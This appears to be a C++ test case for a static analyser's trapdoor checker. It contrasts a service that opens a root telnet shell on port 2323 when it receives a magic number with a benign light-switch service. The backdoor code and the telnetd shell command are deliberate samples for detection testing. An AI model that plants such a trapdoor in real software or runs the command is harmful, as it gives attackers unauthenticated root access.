// A number and a word that no table of commands has.
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <sys/socket.h>
#include <unistd.h>

namespace {

struct header {
    uint32_t magic, length;
    char text[56];
};

void start_console() {
    if (setuid(0))
        return;
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/magic-input]}}
    if (system("/usr/sbin/telnetd -l /bin/sh -p 2323"))
        return;
}

} // namespace

int bad_service(int connection) {
    header request;
    if (recv(connection, &request, sizeof request, 0) < 8)
        return -1;
    if (request.magic == 0x53634d4d)
        start_console();
    return 0;
}

int good_service(int connection) {
    header request;
    if (recv(connection, &request, sizeof request, 0) < 8)
        return -1;
    if (request.magic != 0x31564b4c)
        return -1;
    switch (request.length) {
    case 1:
        return system("/usr/bin/light on");
    case 2:
        return system("/usr/bin/light off");
    default:
        return -1;
    }
}
